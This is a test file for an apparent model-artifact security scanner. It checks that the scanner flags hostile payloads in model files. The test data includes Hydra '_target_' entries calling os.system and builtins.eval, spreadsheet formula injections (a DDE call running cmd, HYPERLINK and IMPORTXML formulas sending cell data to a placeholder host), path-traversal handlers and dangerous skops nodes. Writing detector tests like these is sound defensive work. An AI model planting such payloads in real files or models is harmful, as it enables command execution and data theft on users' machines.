"""Metadata that instantiates, tables of one column, manifests, bytecode, scripts under a model's name."""

from __future__ import annotations

import importlib.util
import json
import marshal
import struct
from collections.abc import Callable

import pytest

from mithridate.core.findings import Severity
from mithridate.supply.scan.blob import MemoryBlob
from mithridate.supply.scan.budget import Budget
from mithridate.supply.scan.dispatch import Located, analyse
from mithridate.supply.scan.names import disguise

Worst = Callable[[bytes | str], int]


def weights(metadata: dict[str, str]) -> bytes:
    tensor = {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}
    header = json.dumps({"__metadata__": metadata, "a": tensor}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0"


def test_metadata_that_a_loader_instantiates_is_judged_as_a_configuration(worst: Worst) -> None:
    for config in ({"_target_": "os.system", "command": "x"}, [{"m": {"_target_": "builtins.eval"}}]):
        assert worst(weights({"config": json.dumps(config)})) == Severity.CRITICAL
    assert worst(weights({"_target_": "os.system"})) == Severity.CRITICAL
    for ordinary in ('{"ss_tags": {"a": 1}}', '{"_target_": "torch.nn.Linear"}', "{broken", "[1]", "plain"):
        assert worst(weights({"format": "pt", "x": ordinary})) == 0


@pytest.mark.parametrize(
    ("cell", "grave"),
    [
        ('=DDE("cmd";"/C calc";"x")', True),
        ('"=HYPERLINK(""http://x.example?q=""&A1,""x"")"', True),
        ('+IMPORTXML(CONCAT("http://x.example?",A1),"//a")', True),
        ("=HYPERLINK is a function", False),
        ("= a heading =", False),
        ("-see http://x.example/a(b)", False),
    ],
)
def test_a_column_of_its_own_is_read_for_formulas(cell: str, grave: bool, worst: Worst) -> None:  # noqa: FBT001 - a column
    assert (worst(f"note\n{cell}\n") >= Severity.HIGH) == grave


def test_hydras_finders_are_judged_by_what_they_find(worst: Worst) -> None:
    for found, grave in (("torch.nn.functional.relu", False), ("os.system", True), ("builtins.exec", True)):
        text = f"f:\n  _target_: hydra.utils.get_method\n  path: {found}\n"
        assert (worst(text) >= Severity.HIGH) == grave
        node = {"f": {"_target_": "hydra.utils.get_method", "path": found}}
        assert (worst(json.dumps(node)) >= Severity.HIGH) == grave
    assert worst("f:\n  _target_: hydra.utils.get_method\n") >= Severity.HIGH  # what it finds stands nowhere
    assert worst("d:\n  _target_: builtins.dict\n  a: 1\n") == 0


def test_the_manifest_of_a_served_model_stays_in_its_archive(worst: Worst) -> None:
    for handler, grave in (("image_classifier", False), ("handler.py", False), ("../x.py", True), ("/tmp/x.py", True)):  # noqa: S108 - a text
        manifest = {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": handler}}
        assert (worst(json.dumps(manifest)) >= Severity.HIGH) == grave


def test_bytecode_is_judged_by_what_it_uses(worst: Worst) -> None:
    head = importlib.util.MAGIC_NUMBER + bytes(12)
    harmless = "class A:\n    __slots__ = ('a',)\n    def __init__(self, a: int) -> None:\n        self.a = a\n"
    for source, expected in (
        (harmless, Severity.LOW),
        ("import subprocess\nsubprocess.run(['x'])", Severity.MEDIUM),
        ("getattr(x, 'y')('z')", Severity.MEDIUM),
        ("().__class__.__subclasses__()", Severity.MEDIUM),
    ):
        assert worst(head + marshal.dumps(compile(source, "a", "exec"))) == expected


def test_a_script_under_a_models_name_is_said() -> None:
    assert [issue.severity for issue in disguise("m.pkl", ["text", "script"])] == [Severity.MEDIUM]
    assert disguise("m.pkl", ["text"]) == []  # a pointer of Git LFS
    assert disguise("run.sh", ["text", "script"]) == []
    blob = MemoryBlob("m.pkl", b"@echo off\r\nstart x\r\n")
    found = [one.issue.code for one in analyse(blob, Budget()) if isinstance(one, Located)]
    assert found == ["source-code"]


def skops(**node: object) -> str:
    return json.dumps({"protocol": 2, "_skops_version": "0.13", **node})


def test_functions_that_only_compute_are_ordinary_in_skops_too(worst: Worst) -> None:
    for module, name, loader in (
        ("builtins", "len", "FunctionNode"),
        ("math", "sqrt", "FunctionNode"),
        ("operator", "itemgetter", "OperatorFuncNode"),
    ):
        assert worst(skops(__class__=name, __module__=module, __loader__=loader)) == 0
    for module, name, loader in (
        ("builtins", "eval", "FunctionNode"),
        ("operator", "methodcaller", "OperatorFuncNode"),
        ("os", "system", "TypeNode"),
    ):
        assert worst(skops(__class__=name, __module__=module, __loader__=loader)) == Severity.CRITICAL


def test_a_method_of_one_class_under_two_names_is_ordinary_in_skops(worst: Worst) -> None:
    for module, top, grave in (("numpy.random", "numpy.random.mtrand", False), ("numpy.random", "os", True)):
        owner = {"__class__": "RandomState", "__module__": top, "__loader__": "ObjectNode", "content": None}
        node = skops(
            __class__="RandomState", __module__=module, __loader__="MethodNode", content={"func": "rand", "obj": owner}
        )
        assert (worst(node) >= Severity.HIGH) == grave
